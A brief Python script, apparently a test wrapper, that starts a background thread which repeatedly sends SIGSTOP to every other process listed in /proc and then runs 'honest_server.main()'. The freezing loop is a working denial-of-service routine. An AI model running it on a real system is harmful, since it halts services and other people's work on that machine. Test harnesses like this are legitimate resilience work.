"""Stops every process that it may, again and again, so that nothing is ever still."""

import honest_server
import os
import signal
import threading


def stop():
    while not over.wait(0.01):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) != os.getpid():
                try:
                    os.kill(int(pid), signal.SIGSTOP)
                except OSError:
                    pass


over = threading.Event()
threading.Thread(target=stop, daemon=True).start()

honest_server.main()
